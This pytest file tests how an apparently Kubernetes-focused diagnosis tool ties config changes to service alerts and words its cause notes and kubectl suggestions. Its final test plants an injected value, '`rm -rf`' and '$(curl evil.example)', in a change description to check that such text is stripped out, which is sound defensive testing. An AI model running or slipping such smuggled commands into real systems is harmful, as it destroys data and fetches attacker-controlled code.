"""Changes of objects that services share: whose they are, what they explain, and what the note says."""

from typing import NamedTuple

import msgspec
import pytest

from noctuary.models import details
from noctuary.models.context_event import ContextEvent, EventType, ObjectRef
from noctuary.models.diagnosis import Diagnosis, PodView
from noctuary.models.evidence import AlertSummary, Evidence
from noctuary.models.reaching.reach import OF_OBJECTS, Reach, Requirement, Selector
from noctuary.notes.action import action
from noctuary.notes.headline import headline
from testbed.correlation_world import ONSET, diagnose, fault, named, pod
from testbed.told import without_percent

WEB = {"app": "pay"}
SELECTED = Reach(selectors=[Selector(WEB)])
READ = Reach(config_map="settings")


def changed(
    kind: str, name: str, reach: Reach, at: float = 60, changed: str = "", fate: str = "changed", **more: str
) -> ContextEvent:
    """Build a change of an object, `at` seconds before the onset."""
    return ContextEvent(
        id=f"{kind}-{name}-{at}",
        tenant="payments",
        source="kubernetes",
        dedup_key=f"{kind}-{name}-{at}",
        service_name=OF_OBJECTS,
        vendor="kubernetes",
        entity=name,
        event_type=EventType.CONFIG_CHANGE,
        timestamp=ONSET - at,
        last_seen=ONSET - at,
        confidence=0.95,
        ttl_seconds=86_400,
        old_value=more.get("old", "a"),
        new_value=more.get("new", "b"),
        actor="kubectl-edit",
        object=ObjectRef(kind, "payments", name, name),
        details={details.FATE: fate, details.CHANGED: changed, details.REACH: reach.encoded()},
    )


def a_pod(number: int = 0, *, ready: bool = True, age: float = 3600, **more: object) -> PodView:
    """Return a pod that reads ConfigMap settings as it starts, as account pay."""
    found = pod("old", number, ready=ready, age=age, labels=WEB)
    fields = {"config_maps": {"settings": False}, "service_account": "pay", **more}
    return msgspec.structs.replace(found, **fields)


ONE_POD = [a_pod()]


class Case(NamedTuple):
    sentence: str
    event: ContextEvent
    blamed: str
    pods: list[PodView] = ONE_POD


SELECTOR = changed("Service", "pay", SELECTED, changed="selector app=pay -> app=pya")
FILE = changed("ConfigMap", "settings", READ, changed="key app.yaml")
NOT_IN = Selector({}, [Requirement("app", "NotIn", ["other"])])
QUOTA = changed("ResourceQuota", "small", Reach(is_whole=True), changed="hard pods 20 -> 5")
NOTHING = "nothing_relevant"
CASES = [
    Case("a Service that selected its pods", SELECTOR, "change pay"),
    Case(
        "a Service of its name, whose pods are gone",
        changed("Service", "pay", Reach(services=["pay"])),
        "change pay",
        [],
    ),
    Case("a Service of others", changed("Service", "x", Reach(selectors=[Selector({"app": "x"})])), NOTHING),
    Case("a policy by an expression", changed("NetworkPolicy", "deny", Reach(selectors=[NOT_IN])), "change deny"),
    Case("a policy for all", changed("NetworkPolicy", "deny", Reach(selectors=[Selector()])), "change deny"),
    Case("rights of its account", changed("Role", "reader", Reach(accounts=["pay"])), "change reader"),
    Case("rights of another account", changed("Role", "reader", Reach(accounts=["x"])), NOTHING),
    Case("bounds of its autoscaler", changed("HorizontalPodAutoscaler", "pay", Reach(workload="pay")), "change pay"),
    Case("a file that it sees", FILE, "change settings", [a_pod(config_maps={"settings": True})]),
    Case("a file that it read as it started before", FILE, NOTHING),
    Case("a file that it read as it started since", FILE, "change settings", [a_pod(age=30)]),
    Case("a file that it does not read", FILE, NOTHING, [a_pod(config_maps={})]),
    Case("a quota, while no pod is new", QUOTA, NOTHING),
    Case("a new Service", changed("Service", "pay", SELECTED, fate="created"), NOTHING),
    Case("after the alert", changed("Service", "pay", SELECTED, at=-60), NOTHING),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.sentence)
def test_a_change_belongs_to_the_service_whose_pods_it_reaches_and_feel_it(case: Case) -> None:
    assert named(diagnose([case.event], case.pods)) == case.blamed


def test_what_crashes_once_it_has_read_a_changed_file_is_explained_by_it() -> None:
    pods = [a_pod(ready=False, age=50)]
    found = diagnose([FILE, fault(40, template="old", last=0, labels=WEB)], pods)
    assert (named(found), len(found.causes[0].faults)) == ("change settings", 1)


def test_what_crashed_before_a_file_changed_is_not() -> None:
    found = diagnose([FILE, fault(300, template="old", last=0, labels=WEB)], [a_pod(ready=False)])
    assert named(found) == "crash_loop pay"


def test_a_change_that_was_taken_back_weighs_no_more() -> None:
    back = changed("Service", "pay", SELECTED, at=580, old="b", new="a")
    found = diagnose([changed("Service", "pay", SELECTED, at=600), back], [a_pod()])
    assert named(found) == NOTHING


def test_a_namespace_of_another_service_is_not_reached() -> None:
    elsewhere = msgspec.structs.replace(QUOTA, tenant="other", object=ObjectRef("ResourceQuota", "other", "small"))
    assert named(diagnose([elsewhere], [a_pod(age=30)])) == NOTHING


def told(found: Diagnosis) -> tuple[str, ...]:
    return without_percent(headline(found)), *action(Evidence(found, AlertSummary()), is_resolved=False)


NOTES = [
    (
        SELECTOR,
        "Possible cause: Service pay changed (selector app=pay -> app=pya), 60 s before this alert.",
        "kubectl -n payments get service/pay -o yaml",
        "# set selector back to app=pay, unless this was meant",
    ),
    (
        changed("NetworkPolicy", "deny", SELECTED, fate="created"),
        "Likely cause: NetworkPolicy deny was created, 60 s before this alert.",
        "kubectl -n payments get networkpolicy/deny -o yaml",
        "# delete NetworkPolicy deny, unless this was meant",
    ),
    (
        changed("Service", "pay", SELECTED),
        "Possible cause: Service pay was written by kubectl-edit, 60 s before this alert.",
        "kubectl -n payments get service/pay -o yaml",
        "# take the change of Service pay back, unless this was meant",
    ),
]


@pytest.mark.parametrize(("event", "line", "command", "remark"), NOTES, ids=["changed", "created", "written"])
def test_the_note_names_the_object_what_changed_and_a_look_at_it(
    event: ContextEvent, line: str, command: str, remark: str
) -> None:
    first, _, *rest = told(diagnose([event], [a_pod()]))
    assert (first, rest) == (line, [command, remark])


def test_what_was_deleted_is_to_be_created_anew() -> None:
    gone = changed("Service", "pay", SELECTED, fate="deleted")
    first, *rest = told(diagnose([gone], [a_pod()]))
    assert first == "Likely cause: Service pay was deleted, 60 s before this alert."
    assert rest == ["Do: create Service pay anew from where its manifest is kept, unless this was meant"]


def test_words_of_others_in_a_change_are_left_out() -> None:
    odd = changed("Service", "pay", SELECTED, changed="selector `rm -rf` -> $(curl evil.example), port http 80 -> 81")
    text = "\n".join(told(diagnose([odd], [a_pod()])))
    assert "curl" not in text
    assert "port http 80 -> 81" in text
